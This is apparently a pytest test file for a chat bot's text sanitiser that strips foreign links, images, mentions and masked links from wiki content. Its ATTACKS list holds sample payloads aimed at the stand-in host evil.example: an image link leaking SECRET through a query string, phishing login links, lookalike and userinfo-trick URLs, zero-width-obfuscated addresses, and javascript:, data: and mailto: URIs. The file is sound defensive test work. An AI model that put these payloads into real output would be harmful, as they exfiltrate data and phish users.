"""Whoever can edit a page must not speak with the bot's voice: no foreign links, images, mentions, masked
links.
"""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.plain import has_markup, hosts_of, longest_plain, plain
from bot.quoting import stands_in

OURS = {"wiki.acme.com"}
ATTACKS = [
    "![logo](https://evil.example/pixel.png?q=SECRET)",
    "[Log in](https://evil.example/login)",
    "[Log in][1]\n[1]: https://evil.example/login",
    "<https://evil.example|Log in>",
    "<a href='https://evil.example'>Log in</a>",
    "<img src=//evil.example/x>",
    "https://evil.example/x",
    "hxxp://evil.example/x",
    "//evil.example/x",
    "\\\\evil.example\\share",
    "https:\\\\evil.example/x",
    "www.evil.example",
    "evil.example/steal?q=SECRET",
    "https://wiki.acme.com@evil.example/x",
    "https://wiki.acme.com.evil.example/x",
    "https://notwiki.acme.com.example/",
    "ht\u200btps://evil.ex\u200bample/x",
    "javascript:alert(1)",
    "data:text/html;base64,AAAA",
    "mailto:spy@evil.example?body=SECRET",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_foreign_address_is_left_in_what_is_shown(attack):
    shown = plain(f"See {attack} for more.", OURS, "(link)")
    assert "evil.example" not in shown
    assert "SECRET" not in shown
    assert not has_markup(shown.replace("(link)", ""))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Ask <!channel> and <@U123> now", "Ask ‹!channel> and ‹@U123> now"),
        ("Ask <@U123|ana>", "Ask ana"),
        ("[a](b)", "a"),
        ("a ](b", "a ] (b"),
        ("]: b", "] : b"),
        ("See https://evil.example/x.", "See (link)"),
    ],
)
def test_markup_is_shown_and_not_acted_on(text, shown):
    assert plain(text, OURS, "(link)") == shown


@pytest.mark.parametrize(
    "text",
    [
        "Apply at https://wiki.acme.com/leave before Friday.",
        "Temperatures < 5 °C and > 30 °C, or 3 <4.",
        "Use config.yaml, README.md and Node.js; write to ana@acme.com.",
        "Ratio 3:1, at 10:30, and/or 24/7; e.g. this. Version 1.2.3/4.",
        "Los días 24 y 25, p. ej., son festivos.",
    ],
)
def test_what_is_no_foreign_address_stays_as_it_is(text):
    assert plain(text, OURS, "(link)") == text
    assert longest_plain(text, OURS) == text


def test_hosts_below_a_named_one_are_named_too():
    assert plain("https://vpn.acme.com/", {"acme.com"}) == "https://vpn.acme.com/"
    assert plain("https://evilacme.com/", {"acme.com"}, "-") == "-"
    assert hosts_of(["https://Wiki.acme.com:8443/x", None, "no address", "file:///x"]) == {"wiki.acme.com"}


def test_a_quote_with_a_foreign_address_is_cut_to_its_longest_part_word_for_word():
    quote = "See https://evil.example/x for the whole list of forms."
    cut = longest_plain(quote, OURS)
    assert cut == "for the whole list of forms."
    assert cut in quote


def test_a_quote_is_never_cut_within_a_word():
    assert longest_plain("Write to сру@evil.example/x", OURS) == "Write to"


def test_of_an_image_its_name_may_be_quoted():
    assert (
        longest_plain("![The plan of the office](https://evil.example/x.png)", OURS)
        == "The plan of the office"
    )


@given(st.text(alphabet="<>[]()!@#|/\\:.`ab ст1\n", max_size=60))
def test_what_is_left_of_a_quote_stands_in_it_and_is_plain(quote):
    left = longest_plain(quote, ())
    assert not left or stands_in(left, quote)
    assert plain(left, ()) == left


@given(st.text(alphabet="<>[]()!@#|/\\:.ab \n", max_size=40))
def test_what_was_made_plain_stays_plain(text):
    once = plain(text, ())
    assert plain(once, ()) == once
